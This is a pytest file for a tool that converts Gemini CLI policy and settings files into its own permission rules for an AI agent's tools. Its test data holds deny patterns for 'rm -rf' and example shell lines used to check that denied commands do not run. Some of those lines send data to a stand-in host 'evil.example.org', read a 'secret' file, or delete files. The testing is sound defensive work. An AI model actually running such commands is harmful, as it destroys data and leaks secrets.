"""Gemini CLI's policy files and settings as a policy."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from nbtools.core.errors import PolicyError
from nbtools.core.tool_names import CANONICAL_NAMES
from nbtools.dialects import canonical_tool_name, dialect
from nbtools.policy.decide import PolicyEngine
from nbtools.policy.importers.gemini_names import PATH_ARGUMENTS
from nbtools.policy.importers.gemini_patterns import _BLANKS
from nbtools.policy.importers.gemini_policies import read_gemini_policies
from nbtools.policy.importers.gemini_settings import read_gemini_settings
from nbtools.policy.importers.imported import ImportedPolicy
from nbtools.policy.layers import Policy
from nbtools.policy.rules import Rule
from tests.policy.some_tools import SHELL

POLICIES = """\
[[rule]]
toolName = "run_shell_command"
commandPrefix = ["git status", "git log"]
decision = "allow"
priority = 100

[[rule]]
toolName = "run_shell_command"
commandRegex = "rm\\\\s+-rf"
decision = "deny"
priority = 900
denyMessage = "Move it to the trash instead."

[[rule]]
toolName = ["write_file", "replace"]
decision = "ask_user"
priority = 50
modes = ["default", "autoEdit"]

[[rule]]
mcpName = "github"
toolName = "create_issue"
decision = "ask_user"
priority = 200

[[rule]]
toolName = "mcp_docs_*"
decision = "allow"
priority = 10
toolAnnotations = { readOnlyHint = true }

[[safety_checker]]
toolName = "write_file"
priority = 100
[safety_checker.checker]
type = "in-process"
name = "allowed-path"
"""


def named(name: str) -> str:
    return canonical_tool_name(name, dialect("gemini"))


def toml(value: Any) -> str:
    if isinstance(value, dict):
        return f"{{ {', '.join(f'{name} = {toml(one)}' for name, one in value.items())} }}"
    return json.dumps(value)


def of(**keys: Any) -> ImportedPolicy:
    rule = {"decision": "allow", "priority": 1, **keys}
    lines = [f"{name} = {toml(value)}" for name, value in rule.items()]
    return read_gemini_policies("\n".join(["[[rule]]", *lines]), named)


def beginning(words: str) -> Rule:
    return Rule("shell", f"{words}:*", literal=True)


def test_a_whole_file() -> None:
    found = read_gemini_policies(POLICIES, named)
    assert found.policy == Policy(
        "",
        allow=(
            beginning("git status"),
            beginning("git log"),
            Rule("mcp__docs__*", annotations=(("readOnlyHint", True),)),
        ),
        ask=(
            Rule("write", modes=("default", "auto_edit", "dont_ask")),
            Rule("edit", modes=("default", "auto_edit", "dont_ask")),
            "mcp__github__create_issue",
            "write",
        ),
        deny=(
            Rule("shell", command="rm\\s+-rf", message="Move it to the trash instead."),
            Rule("shell", arguments=f'"command":"rm[{_BLANKS}]+-rf', message="Move it to the trash instead."),
        ),
    )
    (reported,) = found.not_carried
    assert "safety checker for write_file" in reported


@pytest.mark.parametrize(
    ("keys", "rule"),
    [
        ({"toolName": "read_file"}, "read"),
        ({"toolName": "search_file_content"}, "grep"),
        ({"toolName": "*", "mcpName": "*"}, Rule("mcp__*")),
        ({"toolName": "mcp_my_server_*"}, "mcp__my_server__*"),
        ({"toolName": "mcp_*"}, Rule("mcp__*")),
        ({"toolName": "mcp_github_create_issue"}, "mcp__github__create_issue"),
        ({"mcpName": "docs"}, "mcp__docs__*"),
        ({"toolName": "run_shell_command", "commandPrefix": "npm run test"}, beginning("npm run test")),
        (
            {"toolName": "run_shell_command", "commandPrefix": "ls *"},
            Rule("shell", command=r"ls \*(?:[ \x22]|$)", literal=True),
        ),
        (
            {"toolName": "run_shell_command", "commandRegex": "git (log|show)"},
            Rule("shell", command="git (log|show)", literal=True),
        ),
        ({"toolName": "write_file", "argsPattern": '"file_path":"docs/'}, "write(/docs/**)"),
        ({"toolName": "replace", "argsPattern": '"file_path":"/srv/docs/.*'}, "edit(//srv/docs/**)"),
        (
            {"toolName": "run_shell_command", "commandRegex": r"\w+ x"},
            Rule("shell", command=r"(?a)\w+ x", literal=True),
        ),
        ({"mcpName": "db", "argsPattern": r"\d"}, Rule("mcp__db__*", arguments=r"(?a)\d")),
        ({"mcpName": "db", "argsPattern": r'\x00"n":1'}, Rule("mcp__db__*", arguments=r'\x00"n":1')),
        (
            {"toolName": "discovered_tool_build", "argsPattern": '"target":"doc'},
            Rule("discovered_tool_build", arguments='"target":"doc'),
        ),
        (
            {"mcpName": "db", "toolName": "query", "argsPattern": '"sql":"select'},
            Rule("mcp__db__query", arguments='"sql":"select'),
        ),
        ({"toolName": "discovered_tool_build"}, "discovered_tool_build"),
        ({"toolName": "glob", "denyMessage": "no"}, "glob"),
    ],
)
def test_rules_that_say_the_same(keys: dict[str, Any], rule: str | Rule) -> None:
    assert of(**keys) == ImportedPolicy(Policy(allow=(rule,)), ())


@pytest.mark.parametrize(
    ("keys", "says"),
    [
        ({"toolName": "google_web_search"}, "nbtools has no tool google_web_search"),
        ({"toolName": "read_file", "subagent": "helper"}, "the subagent helper"),
        ({"toolName": "read_file", "interactive": True}, "a person can be asked"),
        ({"toolName": "read_file", "interactive": False}, "nobody can be asked"),
        ({"toolName": "read_file", "modes": ["swift"]}, "nbtools has no mode swift"),
        ({"toolName": "read_file", "onlyOn": "friday"}, "onlyOn is not known here"),
        ({"toolName": "replace", "argsPattern": '"old_string":"x'}, "how the arguments are written"),
        (
            {"toolName": "write_file", "argsPattern": '"file_path":".*\\\\.md"'},
            "how the arguments are written",
        ),
        ({"toolName": "read_file", "commandPrefix": "x"}, "only commands can be narrowed by their beginning"),
        ({"toolName": "run_shell_command", "commandRegex": "(a+)+"}, "nested repetition"),
        ({"toolName": "run_shell_command", "commandRegex": "("}, "is not a valid regular expression"),
    ],
)
def test_rules_that_cannot_be_converted_are_reported(keys: dict[str, Any], says: str) -> None:
    found = of(**keys)
    assert found.policy == Policy()
    assert len(found.not_carried) == 1
    assert says in found.not_carried[0]
    assert "priority 1" in found.not_carried[0]


@pytest.mark.parametrize(
    "keys",
    [
        {},
        {"toolName": "mcp__*"},
        {"toolName": "mcp_docs_" + "x" * 60},
        {"mcpName": "docs", "toolName": "x" * 60},
        {"mcpName": "my.docs"},
        {"mcpName": "x" * 41},
        {"mcpName": "db", "argsPattern": "(a+)b(c)+"},
        {"toolName": "run_shell_command", "commandRegex": "g(i+)t (x)?"},
        {"toolName": "mcp__github__create_issue"},
        {"toolName": "mcp_*_search"},
        {"toolName": "search", "mcpName": "*"},
        {"toolName": "mcp_github_list", "mcpName": "github"},
        {"toolName": "se*", "mcpName": "github"},
        {"toolName": "mcp_docs_sea*"},
        {"toolName": "mcp_docs_long...name"},
        {"toolName": "w*"},
        {"toolName": "discovered_tool_*"},
        {"toolName": "shell"},
        {"toolName": "Bash"},
        {"toolName": "ShellTool"},
        {"toolName": "read_file", "subagent": "helper"},
        {"toolName": "read_file", "modes": ["default", "swift"]},
        {"toolName": "run_shell_command", "commandPrefix": "git", "argsPattern": "status"},
        {"toolName": "run_shell_command", "commandPrefix": "git", "commandRegex": "git status"},
        {"toolName": "run_shell_command", "commandRegex": "git", "argsPattern": "status"},
        {"toolName": "run_shell_command", "argsPattern": '"command":"git '},
        {"toolName": "run_shell_command", "argsPattern": '"dir_path":"docs/'},
        {"toolName": "run_shell_command", "commandPrefix": ""},
        {"toolName": "run_shell_command", "commandPrefix": []},
        {"toolName": "run_shell_command", "commandPrefix": ["", "ls"]},
        {"toolName": "run_shell_command", "commandRegex": ""},
        {"toolName": "run_shell_command", "argsPattern": ""},
        {"toolName": "run_shell_command", "commandPrefix": "rm "},
        {"toolName": "run_shell_command", "commandPrefix": "cd x && ls"},
        {"toolName": "run_shell_command", "commandRegex": "git status$"},
        {"toolName": "run_shell_command", "commandRegex": "git (?!push)"},
        {"toolName": "run_shell_command", "commandRegex": "(?i)git status"},
        {"toolName": "run_shell_command", "commandRegex": "git l++og"},
        {"toolName": "run_shell_command", "commandRegex": "git [!-~]push"},
        {"toolName": "run_shell_command", "commandRegex": "git [ -z]push"},
        {"toolName": "run_shell_command", "commandRegex": r"git [+-\]]push"},
        {"toolName": "run_shell_command", "commandRegex": "git log `date`"},
        {"toolName": "query", "mcpName": "db", "argsPattern": "(?i)select"},
        {"toolName": "run_shell_command", "commandRegex": 'git [^"]*log'},
        {"toolName": "*", "argsPattern": '"file_path":"docs/'},
        {"toolName": "write_file", "argsPattern": '"path":"docs/'},
        {"toolName": "write_file", "argsPattern": '"content":"draft'},
        {"toolName": "web_fetch", "argsPattern": "docs.example.org"},
        {"toolName": "query", "mcpName": "db", "argsPattern": r'"sql":"\Aselect'},
        {"toolName": "query", "mcpName": "db", "toolAnnotations": {}},
        {"toolName": "query", "mcpName": "db", "toolAnnotations": {"destructiveHint": False}},
        {"toolName": "query", "mcpName": "db", "toolAnnotations": {"title": "x"}},
        {"toolName": "read_file", "onlyOn": "friday"},
    ],
)
def test_an_allow_without_a_counterpart_is_left_out_and_named(keys: dict[str, Any]) -> None:
    found = of(**keys)
    assert found.policy == Policy()
    assert len(found.not_carried) == 1
    assert "priority 1" in found.not_carried[0]


@pytest.mark.parametrize(
    ("keys", "lists"),
    [
        ({}, {"deny": ("*",)}),
        ({"toolName": "mcp__*"}, {"deny": ("mcp__*",)}),
        ({"toolName": "mcp_*_search"}, {"deny": ("mcp_*_search", "mcp__*__search")}),
        (
            {"toolName": "mcp_my_server_x"},
            {"deny": ("mcp_my_server_x", "mcp__my__server_x", "mcp__my_server__x")},
        ),
        ({"toolName": "mcp_docs_long...name"}, {"deny": ("mcp_docs_long...name", "mcp__docs__long*name")}),
        ({"toolName": "google_web_search"}, {"deny": ("google_web_search",)}),
        ({"toolName": "read_file", "interactive": True}, {"deny": ("read",)}),
        ({"toolName": "read_file", "interactive": False}, {"ask": ("read",)}),
        ({"toolName": "read_file", "onlyOn": "friday"}, {"deny": ("read",)}),
        ({"toolName": "read_file", "modes": ["yolo", "swift"]}, {"deny": ("read",)}),
        (
            {"toolName": "read_file", "modes": ["default"]},
            {"deny": (Rule("read", modes=("default", "dont_ask")),)},
        ),
        ({"mcpName": "db", "toolAnnotations": {"title": "x"}}, {"deny": ("mcp__db__*",)}),
        (
            {"toolName": "write_file", "argsPattern": '"file_path":".*secret'},
            {"deny": (Rule("write", arguments='"path":".*secret'),)},
        ),
        ({"toolName": "write_file", "argsPattern": "secret"}, {"deny": (Rule("write", arguments="secret"),)}),
        ({"toolName": "replace", "argsPattern": '"old_string":"x'}, {"ask": ("edit",)}),
        ({"toolName": "replace", "argsPattern": r'"\w+_path":"x'}, {"ask": ("edit",)}),
        ({"toolName": "replace", "argsPattern": "("}, {"ask": ("edit",)}),
        ({"toolName": "run_shell_command", "commandRegex": "(a+)+"}, {"ask": ("shell",)}),
        ({"toolName": "run_shell_command", "commandRegex": r"rm\Z"}, {"ask": ("shell",)}),
        (
            {"toolName": "discovered_tool_x", "argsPattern": "prod"},
            {"deny": (Rule("discovered_tool_x", arguments="prod"),)},
        ),
        ({"toolName": "run_shell_command", "commandPrefix": ""}, {"deny": ("shell",)}),
        ({"toolName": "run_shell_command", "commandPrefix": []}, {"deny": ("shell",)}),
    ],
)
def test_a_deny_is_never_narrower(keys: dict[str, Any], lists: dict[str, Any]) -> None:
    assert of(decision="deny", **keys).policy == Policy(**lists)


@pytest.mark.parametrize(
    ("keys", "command"),
    [
        ({"commandPrefix": "rm -rf"}, "ls; rm  -rf x"),
        ({"commandPrefix": "rm -rf "}, "ls; rm -rf x"),
        ({"commandPrefix": "rm", "argsPattern": "never"}, "rm x"),
        ({"commandPrefix": "never", "argsPattern": '"command":"rm'}, "ls; rm x"),
        ({"commandPrefix": "! rm"}, "! rm x"),
        ({"commandPrefix": 'echo "a'}, 'echo "a b"'),
        ({"commandPrefix": "cd x && rm"}, "cd x && rm y"),
        ({"commandRegex": "curl.*evil"}, "ls; curl -d '1\n2' evil.example.org"),
        ({"commandRegex": "wget|curl"}, "ls && curl x"),
        ({"commandRegex": r'echo \\\\"a'}, 'echo "a" b'),
        ({"argsPattern": '"command":"rm'}, "ls; rm x"),
        ({"argsPattern": '"command":"rm x"'}, "ls; rm x"),
        ({"argsPattern": r'"command":"[^"]*secret'}, "ls; cat secret"),
        ({"argsPattern": '"command":"never"|"command":"rm'}, "ls; rm x"),
        ({"argsPattern": r"\"command\":\"rm"}, "ls; rm x"),
        ({"argsPattern": "secret"}, "ls; cat secret"),
        ({"toolName": "*", "commandPrefix": "rm"}, "ls; rm x"),
        ({"toolName": "*", "argsPattern": '"command":"rm'}, "ls; rm x"),
    ],
)
def test_a_command_that_was_denied_does_not_run(keys: dict[str, Any], command: str) -> None:
    found = of(**{"toolName": "run_shell_command", "decision": "deny", **keys})
    yolo = replace(found.policy, mode="yolo")
    arguments = {"command": command}
    assert PolicyEngine(yolo).decide(SHELL, SHELL.build(arguments), arguments).action != "allow"


def decide(policy: Policy, line: str) -> str:
    arguments = {"command": line}
    return PolicyEngine(policy).decide(SHELL, SHELL.build(arguments), arguments).action


BLANKET = [{"toolName": "run_shell_command"}, {"toolName": "*"}, {"toolName": "*", "allowRedirection": True}]


@pytest.mark.parametrize("keys", BLANKET, ids=str)
@pytest.mark.parametrize(
    ("unapproved", "allowed"),
    [
        ("rm -rf build", "rm build"),
        ("rm -f build", "make"),
        ("sudo rm -fr build", "ls"),
        ("ls; rm -rf build", "ls; ls"),
        ("find . -name x -delete", "find . -name x"),
        ("find . -exec cat {} +", "find ."),
        ("find . -fprintf out x", "find . -print"),
        ("rg --pre=cat x", "rg x"),
        ("rg -z x", "rg -n x"),
        ("git -c alias.x=y x", "git commit -m x"),
        ("git commit --config-env=a.b=C", "git commit"),
        ("git log --output=x", "git log"),
        ("git -C . diff --ext-diff", "git diff"),
        ("git branch -D x", "git branch --list"),
        ("git branch x", "git branch"),
        ("base64 -ox y", "base64 y"),
        ('echo "', "echo x"),
    ],
)
def test_an_allow_of_every_command_asks_about_what_gemini_asks_about(
    keys: dict[str, Any], unapproved: str, allowed: str
) -> None:
    policy = of(**keys).policy
    assert (decide(policy, unapproved), decide(policy, allowed)) == ("ask", "allow")
    only_yolo = of(**keys, modes=["yolo"]).policy
    assert only_yolo.ask == ()
    assert len(of(**keys, modes=["default", "yolo"]).policy.ask) == len(policy.ask)


@pytest.mark.parametrize(
    "line",
    [
        "cd x && git log",
        "timeout 5 git log",
        "git --no-pager log",
        "LC_ALL=C git log",
        "(git log)",
        "if true; then git log; fi",
        "bash -c 'git log'",
        "git log 2>&1",
        "git log < x",
        "git log > /dev/null",
        "git log; ls",
        "/usr/bin/git log",
        "git  log",
    ],
)
def test_a_prefix_covers_a_line_only_as_it_is_written(line: str) -> None:
    policy = of(toolName="run_shell_command", commandPrefix="git log").policy
    assert [decide(policy, one) for one in ("git log", "git log -p | git log", line)] == [
        "allow",
        "allow",
        "ask",
    ]
    more = replace(policy, allow=(*policy.allow, "shell(ls:*)", "shell(cd:*)"))
    assert [decide(more, one) for one in ("ls; git log", "cd x && ls")] == ["allow", "allow"]


def test_both_spellings_of_two_keys_are_read() -> None:
    for message, redirects in (("denyMessage", "allowRedirection"), ("deny_message", "allow_redirection")):
        assert of(toolName="glob", decision="deny", **{message: "no"}).policy.deny == (
            Rule("glob", message="no"),
        )
        (allow,) = of(toolName="run_shell_command", commandPrefix="ls", **{redirects: True}).policy.allow
        assert allow == replace(beginning("ls"), redirects=True)


@pytest.mark.parametrize("redirects", [True, False])
def test_a_redirect_is_allowed_only_where_the_rule_says_so(redirects: bool) -> None:
    policy = of(toolName="run_shell_command", allowRedirection=redirects).policy
    decided = {line: decide(policy, line) for line in ("make; ls", "make > log")}
    assert decided == {"make; ls": "allow", "make > log": "allow" if redirects else "ask"}


def test_calls_that_a_safety_checker_examines_are_not_allowed() -> None:
    checker = '[[safety_checker]]\ntoolName = ["write_file"]\n[safety_checker.checker]\ntype="in-process"\nname="allowed-path"\n'
    rule = '[[rule]]\ntoolName = ["write_file", "read_file"]\ndecision = "allow"\npriority = 1\n'
    found = read_gemini_policies(rule + checker, named)
    assert found.policy == Policy(allow=("read",), ask=("write",))
    assert len(found.not_carried) == 2
    assert read_gemini_policies(
        checker.replace("[safety_checker.checker]", 'modes = ["autoEdit"]\n[safety_checker.checker]'), named
    ).policy == Policy(ask=(Rule("write", modes=("auto_edit",)),))


def test_every_tool_of_gemini_is_one_of_ours() -> None:
    assert {named(tool) for tool in PATH_ARGUMENTS} <= set(CANONICAL_NAMES)


def test_a_question_only_for_people_is_a_question() -> None:
    found = of(toolName="read_file", decision="ask_user", interactive=True)
    assert found == ImportedPolicy(Policy(ask=("read",)), ())


@pytest.mark.parametrize(
    ("strong", "weak", "reported"),
    [
        ('toolName="run_shell_command"\ncommandPrefix="git status"', 'toolName="run_shell_command"', True),
        ('toolName="read_file"', 'toolName="*"', True),
        (
            'toolName="run_shell_command"\ncommandPrefix="git"',
            'toolName="run_shell_command"\ncommandPrefix="git push"',
            True,
        ),
        (
            'toolName="run_shell_command"\ncommandPrefix="git"',
            'toolName="run_shell_command"\ncommandPrefix="gitk"',
            False,
        ),
        ('toolName="read_file"', 'toolName="write_file"', False),
        ('toolName="read_file"\nmodes=["plan"]', 'toolName="*"\nmodes=["yolo"]', False),
    ],
)
def test_an_allow_that_overrides_a_deny_is_reported(strong: str, weak: str, reported: bool) -> None:
    allow = f'[[rule]]\ndecision="allow"\npriority=500\n{strong}\n'
    deny = f'[[rule]]\ndecision="deny"\npriority=5\n{weak}\n'
    found = read_gemini_policies(allow + deny, named)
    assert len(found.policy.deny) == 1
    assert bool(found.not_carried) is reported
    if reported:
        assert "priority 500 overrides deny" in found.not_carried[0]
    assert read_gemini_policies((allow + deny).replace("=500", "=1"), named).not_carried == ()


@pytest.mark.parametrize(
    "text",
    [
        *(
            f"[[rule]]\ndecision='allow'\n{keys}"
            for keys in (
                "priority=1000\ntoolName='glob'",
                "priority=-1\ntoolName='glob'",
                "priority=true\ntoolName='glob'",
                "priority='5'\ntoolName='glob'",
                "priority=1\ntoolName=[]",
                "priority=1\ntoolName=''",
                "priority=1\ntoolName=[1]",
                "priority=1\ntoolName='*'\nmcpName=''",
                "priority=1\ntoolName='glob'\nsubagent=''",
                "priority=1\ntoolName='glob'\ninteractive='yes'",
                "priority=1\ntoolName='glob'\nmodes='default'",
                "priority=1\ntoolName='glob'\nargsPattern=['x']",
            )
        ),
        "[[rule",
        "rule = 3",
        "[[rule]]\ntoolName = 'x'",
        "[[rule]]\ndecision='maybe'\npriority=1",
        "[[rule]]\ndecision='deny'\npriority='x'",
    ],
)
def test_a_file_that_is_not_a_policy_is_an_error_in_one_line(text: str) -> None:
    with pytest.raises(PolicyError, match="policies") as raised:
        read_gemini_policies(text, named)
    assert "\n" not in str(raised.value)


def settings(**keys: Any) -> ImportedPolicy:
    return read_gemini_settings(json.dumps(keys), named)


def test_settings() -> None:
    found = settings(
        ui={"theme": "dark"},
        general={"defaultApprovalMode": "auto_edit"},
        tools={
            "allowed": ["run_shell_command(git status)", "read_file", "codebase_investigator"],
            "exclude": ["web_fetch", "ShellTool(rm)"],
            "confirmationRequired": ["write_file"],
            "sandbox": "docker",
        },
        mcp={"excluded": ["db"], "allowed": ["docs"]},
        mcpServers={
            "docs": {"command": "docs-server"},
            "mine": {"url": "http://127.0.0.1:9/", "trust": True},
        },
        hooks={"BeforeTool": []},
    )
    assert found.policy == Policy(
        "auto_edit",
        allow=(beginning("git status"), "read", "mcp__mine__*", "mcp__docs__*"),
        ask=("write",),
        deny=("fetch", "shell(rm:*)", "mcp__db__*"),
    )
    reported = "\n".join(found.not_carried)
    for word in ("codebase_investigator", "Hooks", "%tools set sandbox required", "mcp.allowed"):
        assert word in reported


def test_a_list_of_all_tools_denies_the_others() -> None:
    found = settings(tools={"core": ["read_file", "run_shell_command(ls)"]})
    assert found.policy.allow == ("read", beginning("ls"))
    assert set(found.policy.deny) == set(CANONICAL_NAMES) - {"read", "shell"}
    assert "other commands need approval" in found.not_carried[1]


def test_settings_allow_no_more_than_they_did() -> None:
    found = settings(
        tools={
            "allowed": ["shell", "mcp__*", "*", "read_file(x)", "run_shell_command(rm )"],
            "exclude": ["write_file(x)", "mcp_a_b_c"],
        },
        mcpServers={
            "mine": {"trust": True, "excludeTools": ["drop"]},
            "other": {"trust": True, "includeTools": ["list(all)", "get"]},
            "rest": {"excludeTools": ["drop"]},
        },
    )
    assert found.policy == Policy(
        allow=("mcp__mine__*", "mcp__other__list", "mcp__other__get"),
        deny=("write", "mcp_a_b_c", "mcp__a__b_c", "mcp__a_b__c", "mcp__mine__drop", "mcp__rest__drop"),
    )
    assert len(found.not_carried) == 6
    assert (
        settings(tools={"allowed": ["run_shell_command"]}).policy == of(toolName="run_shell_command").policy
    )
    assert settings(mcpServers={"my.docs": {"trust": True}}).policy == Policy()


def test_tools_that_older_settings_exclude_are_denied() -> None:
    found = settings(excludeTools=["write_file"], excludeMCPServers=["db"])
    assert found.policy == Policy(deny=("write", "mcp__db__*"))
    assert "write" in settings(coreTools=["read_file"]).policy.deny


def test_an_expression_that_is_long_to_read_is_read_at_once() -> None:
    found = of(toolName="write_file", decision="deny", argsPattern="a??" * 500 + "[")
    assert found.policy == Policy(ask=("write",))
    assert of(toolName="write_file", decision="deny", argsPattern="a??" * 500 + r"\Z").policy == Policy(
        ask=("write",)
    )


def test_the_mode_yolo_is_not_taken() -> None:
    found = settings(general={"defaultApprovalMode": "yolo"})
    assert found.policy == Policy()
    assert "Mode yolo was not imported" in found.not_carried[0]


def test_nothing_is_no_problem() -> None:
    assert settings() == ImportedPolicy(Policy(), ())
    assert read_gemini_policies("", named) == ImportedPolicy(Policy(), ())


@pytest.mark.parametrize("text", ["", "[]", '{"tools": {"core": 1}}'])
def test_a_file_that_is_not_settings_is_an_error_in_one_line(text: str) -> None:
    with pytest.raises(PolicyError, match="settings") as raised:
        read_gemini_settings(text, named)
    assert "\n" not in str(raised.value)
